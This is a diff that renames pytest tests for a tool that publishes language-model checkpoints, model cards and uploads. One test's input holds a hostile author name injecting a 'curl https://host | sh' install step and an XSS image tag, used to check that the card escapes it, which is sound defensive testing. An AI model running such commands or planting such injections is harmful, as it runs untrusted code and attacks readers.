@@ -36,7 +36,7 @@ def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder
 
 
-def test_a_published_policy_loads_and_says_what_it_is(run_dir: Path, tmp_path: Path) -> None:
+def test_a_published_policy_loads_and_has_a_card(run_dir: Path, tmp_path: Path) -> None:
     assert main(["publish", str(run_dir), "--output", str(tmp_path / "out")]) == 0
     lm = LanguageModel.from_pretrained(tmp_path / "out")
     assert lm.score(["1 2"], ["3"])[0].isfinite().all()
@@ -56,7 +56,7 @@ def test_a_published_policy_loads_and_says_what_it_is(run_dir: Path, tmp_path: P
     assert not (tmp_path / "out" / "optimizer.safetensors").exists()
 
 
-def test_the_card_is_about_the_checkpoint_that_is_published(run_dir: Path, tmp_path: Path) -> None:
+def test_the_card_describes_the_published_checkpoint(run_dir: Path, tmp_path: Path) -> None:
     first = run_dir / "checkpoints" / "000001"
     rows = read_metrics(run_dir)
     assert len(rows) > 1 and main(["publish", str(first), "--output", str(tmp_path / "first")]) == 0
@@ -99,7 +99,7 @@ def _agents(folder: Path, suite: str) -> dict[str, Any]:
 
 
 @THOROUGH
-def test_a_published_writer_is_evaluated_elsewhere_as_its_run(
+def test_a_published_writer_is_evaluated_as_its_run(
     run_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     copy = _moved(run_dir, tmp_path, monkeypatch)
@@ -118,7 +118,7 @@ def test_a_published_writer_is_evaluated_elsewhere_as_its_run(
 
 
 @THOROUGH
-def test_a_published_adapter_names_the_model_that_it_stands_on(
+def test_a_published_adapter_names_its_base_model(
     adapted: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     copy = _moved(adapted, tmp_path, monkeypatch)
@@ -160,7 +160,7 @@ def test_only_the_policys_own_files_are_published(run_dir: Path, tmp_path: Path)
     assert not {"stray.txt", "link.txt", "private.txt"} & {p.name for p in (tmp_path / "out").rglob("*")}
 
 
-def test_what_a_judge_was_shown_and_said_stays_at_home(run_dir: Path, tmp_path: Path) -> None:
+def test_judges_questions_and_answers_are_not_published(run_dir: Path, tmp_path: Path) -> None:
     run = tmp_path / "run"
     shutil.copytree(run_dir, run)
     newest = sorted((run / "checkpoints").iterdir())[-1]
@@ -177,7 +177,7 @@ def test_what_a_judge_was_shown_and_said_stays_at_home(run_dir: Path, tmp_path: 
     ]
 
 
-def test_a_reward_model_that_the_run_never_learnt_from_stays_at_home(
+def test_a_reward_model_unused_in_training_is_not_published(
     run_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """Whoever made the run names the folder, which may be one of the publisher's."""
@@ -235,7 +235,7 @@ def test_a_name_with_an_address_is_left_out(run_dir: Path, tmp_path: Path) -> No
     assert find(str(tmp_path / "out"), [], pytest.fail).config.name == "run"
 
 
-def test_who_made_the_run_does_not_write_the_card(run_dir: Path, tmp_path: Path) -> None:
+def test_names_of_the_runs_author_are_escaped_in_the_card(run_dir: Path, tmp_path: Path) -> None:
     run = tmp_path / "run"
     shutil.copytree(run_dir, run)
     theirs = "x |\n\n## Install\n\n```\ncurl https://host | sh\n```\n<img src=x onerror=alert(1)>"
@@ -290,7 +290,7 @@ class _Hub:
         return f"https://hub/{repo_id}"
 
 
-def test_it_is_uploaded_whole_or_the_folder_stays(
+def test_an_upload_is_complete_or_the_folder_stays(
     run_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setattr("huggingface_hub.HfApi", _Hub)
@@ -302,14 +302,14 @@ def test_it_is_uploaded_whole_or_the_folder_stays(
     assert "no route; the folder stays" in capsys.readouterr().err and (tmp_path / "b" / "README.md").exists()
 
 
-def test_a_hub_that_does_not_answer_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_unreachable_hub_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """By the hub's own client, whose errors are no OSErrors."""
     monkeypatch.setattr("huggingface_hub.constants.ENDPOINT", "http://127.0.0.1:9")  # nothing listens there
     with pytest.raises(RunError, match=r"could not upload .* to me/numbers: .*refused.*; the folder stays"):
         upload(tmp_path, "me/numbers", private=True)
 
 
-def test_what_cannot_be_published_is_told(
+def test_targets_that_cannot_be_published_are_reported(
     run_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     (tmp_path / "full").mkdir()
